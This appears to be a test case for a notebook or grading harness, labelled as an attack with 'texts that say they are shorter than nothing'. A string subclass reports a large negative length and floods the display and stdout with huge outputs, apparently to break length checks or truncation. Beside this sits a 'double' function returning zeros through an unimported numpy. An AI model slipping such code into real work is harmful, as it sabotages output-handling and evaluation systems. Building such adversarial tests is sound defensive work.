# ruff: noqa
# kind: output
# attack: texts that say they are shorter than nothing

# %% double-solution
class N(str):
    def __len__(self):
        return -(2**62)


import sys
from IPython import get_ipython

for k in range(40):
    get_ipython().display_pub.publish({"text/plain": N("y" * 200000)})
    sys.stdout.write(N("q" * 300000))


def double(x):
    return np.zeros(3)
